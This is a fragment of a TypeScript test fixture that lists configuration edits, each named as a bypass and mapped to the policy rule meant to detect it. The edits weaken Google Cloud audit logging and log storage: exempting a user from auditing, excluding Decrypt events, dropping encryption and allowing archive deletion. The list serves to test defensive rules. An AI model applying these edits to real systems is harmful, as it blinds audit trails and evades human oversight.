  { notes: '8 logs', name: 'versioning together with retention', apply: set(BUCKET, 'logs-archive', 'versioning.enabled', true), rules: ['audit-log-immutable', 'audit-log-retention', 'log-deletion-guarded'] },
  { notes: '8 logs', name: 'access lists of objects', apply: set(BUCKET, 'logs-archive', 'uniformBucketLevelAccess', false), rules: ['log-store-private'] },
  { notes: '8 logs', name: 'an archive that may become public', apply: set(BUCKET, 'logs-archive', 'publicAccessPrevention', 'inherited'), rules: ['log-store-private'] },
  { notes: '8 logs', name: 'an archive without a customer key', apply: set(BUCKET, 'logs-archive', 'encryption', null), rules: ['log-store-encrypted'] },
  { notes: '8 logs', name: 'a log bucket without a customer key', apply: set(LOG_BUCKET, 'logs', 'cmekSettings', null), rules: ['log-store-encrypted'] },
  { notes: '8 logs', name: 'a sink whose writer may not write', apply: remove('gcp:storage/bucketIAMMember:BucketIAMMember', 'logs-keys-archive'), rules: ['audit-log-enabled', 'audit-log-complete', 'audit-log-immutable'] },
  { notes: '8 logs', name: 'a sink with a filter', apply: set(SINK, 'logs-keys-archive', 'filter', 'severity >= ERROR'), rules: ['audit-log-complete'] },
  { notes: '8 logs', name: 'a sink with an exclusion', apply: set(SINK, 'logs-keys-archive', 'exclusions', [{ name: 'quiet', filter: 'protoPayload.methodName="Decrypt"' }]), rules: ['audit-log-complete'] },
  { notes: '8 logs', name: 'reads that are not audited', apply: (draft) => { draft.list(AUDIT, 'logs-keys', 'auditLogConfigs').splice(1, 1); }, rules: ['audit-log-complete'] },
  { notes: '8 logs', name: 'token exchanges that are not audited', apply: (draft) => { draft.list(AUDIT, 'logs-keys', 'auditLogConfigs').splice(0, 1); }, rules: ['audit-log-complete'] },
  { notes: '8 logs', name: 'a member who is not audited', apply: set(AUDIT, 'logs-keys', 'auditLogConfigs.1.exemptedMembers', [MALLORY]), rules: ['audit-log-complete'] },
  { notes: '8 logs', name: 'no audit of the key\'s project', apply: remove(AUDIT, 'logs-keys'), rules: ['audit-log-complete', 'audit-log-enabled'] },
  { notes: '8 logs', name: 'an archive that may be destroyed', apply: (draft) => { delete draft.state(BUCKET, 'logs-archive')['protect']; draft.set(BUCKET, 'logs-archive', 'forceDestroy', true); }, rules: ['log-deletion-guarded'] },
];

/** One edit per bypass of the field notes' section 3 and per line of their section 8. */
export const BYPASSES: readonly Bypass[] = [...KEY_BYPASSES, ...VM_LINES, ...KEY_LINES, ...CONDITION_LINES, ...NETWORK_LINES, ...LOG_LINES];
